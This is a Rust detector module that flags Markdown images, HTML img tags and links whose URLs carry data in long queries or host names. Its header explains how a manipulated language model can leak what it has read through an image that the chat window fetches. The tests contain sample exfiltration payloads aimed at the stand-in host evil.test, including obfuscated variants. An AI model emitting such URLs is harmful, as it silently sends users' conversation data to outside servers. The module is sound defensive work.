//! Markdown and HTML that make a reader's program fetch an address with data in it.
//!
//! A model that was talked into it writes a picture whose address carries what it has read; the chat
//! window fetches it, and the data are gone without a click. Of links, which need one, only those that
//! carry much are told of.

use std::sync::LazyLock;

use super::detector::{Detector, Finding};
use super::lexicon::Edges;
use super::marked::{Marked, Rule};

static RULES: LazyLock<Option<Marked>> = LazyLock::new(|| {
    let rule = |word, expression| Rule::new([word], expression, Edges::None);
    // None goes on behind what may begin another, but for a little of its address.
    let rules = vec![
        rule(
            "![",
            r"!\[(?:\\.|[^\]\[\\\n]|\[(?:\\.|[^\]\[\\\n])*\])*\]\(\s*<?((?:https?:)?//[^\s)>\]]+(?:\][^\s)>]{0,64})?)[^)\n\]]*[)\]]",
        ),
        rule(
            "<img",
            r#"<img\s(?:[^<>]|<[^i<>])*?src\s*=\s*["']?((?:https?:)?//[^\s"'<>]+(?:<[^\s"'>]{0,64})?)[^<>]*[<>]"#,
        ),
        rule("[", r"\[[^\]\[\n]+\]:\s*<?((?:https?:)?//[^\s>\[]+(?:\[[^\s>]{0,64})?)>?"),
        rule("](", r"\]\(\s*<?((?:https?:)?//[^\s)>\]]+(?:\][^\s)>]{0,64})?)[^)\n\]]*[)\]]"),
    ];
    Marked::new(rules, LONGEST)
});

/// A link or a picture with its address has no more bytes: few servers take a longer one.
const LONGEST: usize = 8 << 10;

/// The rule of links, which are clicked on.
const LINK: u16 = 3;

/// A query of a picture with no more bytes carries a size or a version.
const PICTURE: usize = 16;

/// A query of a link with no more bytes carries where it came from.
const CLICKED: usize = 96;

/// A name in a path or of a host with no more bytes is one.
const NAME: usize = 40;

/// Finds such places from `from` on and returns how far all is decided.
pub(super) fn pass(text: &[u8], from: usize, ended: bool, found: &mut Vec<Finding>) -> usize {
    let Some(rules) = &*RULES else { return text.len() };
    rules.pass(text, from, ended, found, |rule, (start, end), (url, behind)| {
        let address = text.get(url..behind).unwrap_or_default();
        let is = carries(address, if rule == LINK { CLICKED } else { PICTURE });
        is.then(|| Finding { rule, ..Finding::of(Detector::Exfiltration, start, end) })
    })
}

/// Whether an address has so much in its query, or in one name of its path or host, that it may be data.
fn carries(address: &[u8], most: usize) -> bool {
    let behind = address.iter().position(|byte| matches!(byte, b'?' | b'#' | b';')).unwrap_or(address.len());
    let (named, query) = address.split_at_checked(behind).unwrap_or((address, &[]));
    let mut names = named.split(|byte| matches!(byte, b'/' | b'.'));
    query.len() > most || (most == PICTURE && names.any(|name| name.len() > NAME))
}

/// The host of the address in a finding's text.
pub(super) fn host(found: &[u8]) -> Option<&str> {
    let behind = memchr::memmem::find(found, b"//")? + 2;
    let rest = found.get(behind..)?;
    let end =
        rest.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#' | b')' | b'>' | b'"' | b'\'' | b' '));
    let authority = std::str::from_utf8(rest.get(..end.unwrap_or(rest.len()))?).ok()?;
    let host = authority.rsplit('@').next()?;
    Some(host.split(':').next().unwrap_or(host))
}

#[cfg(test)]
mod tests {
    use super::super::pattern::STEPS;
    use super::*;

    fn found(text: &str) -> Vec<&str> {
        let mut found = Vec::new();
        pass(text.as_bytes(), 0, true, &mut found);
        found.iter().map(|finding| &text[finding.start..finding.end]).collect()
    }

    #[test]
    fn pictures_with_data_are_found_and_others_are_not() {
        let data = "![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)";
        assert_eq!(found(&format!("see {data} there")), [data]);
        let host = "![x](//QmFzZTY0IGRhdGEgaW4gYSBob3N0IG5hbWUgaXMgbG9uZw.evil.test/)";
        assert_eq!(found(host), [host]);
        let html = "<img width=1 src='http://evil.test/?q=the+whole+conversation'>";
        assert_eq!(found(html), [html]);
        let reference = "[1]: https://evil.test/?q=the+whole+conversation";
        assert_eq!(found(&format!("![x][1]\n\n{reference}\n")), [reference]);
        assert!(
            found("![logo](https://example.com/logo.png?v=2) [docs](https://example.com/a?b=c)").is_empty()
        );
        assert!(found("![local](images/a.png) a[0](1) x ![").is_empty());
        let hidden = [
            r"![a [b] \[c](https://evil.test/?q=the+whole+conversation)",
            "![a](https://evil.test/?q=[the]+whole+conversation]",
            "[a]: //evil.test/?q=[the+whole+conversation",
            "<img alt='<' src=//evil.test/?q=<the+whole+conversation>",
        ];
        for text in hidden {
            assert_eq!(found(text).len(), 1, "{text}");
        }
    }

    #[test]
    fn a_text_full_of_beginnings_is_read_a_few_times_at_most() {
        for part in ["[", "![", "](//a", "![a](//b", "<img src=//a", "[a]://b", "![a]( //"] {
            let text = part.repeat(200_000 / part.len());
            for ended in [true, false] {
                let before = STEPS.get();
                pass(text.as_bytes(), 0, ended, &mut Vec::new());
                assert!(STEPS.get() - before < 60 * text.len(), "{part} {}", STEPS.get() - before);
            }
        }
    }

    #[test]
    fn a_host_is_read_as_programs_read_it() {
        assert_eq!(host(b"![a](https://user@evil.test:8080/x)"), Some("evil.test"));
        assert_eq!(host(b"![a](//evil.test?x)"), Some("evil.test"));
    }
}
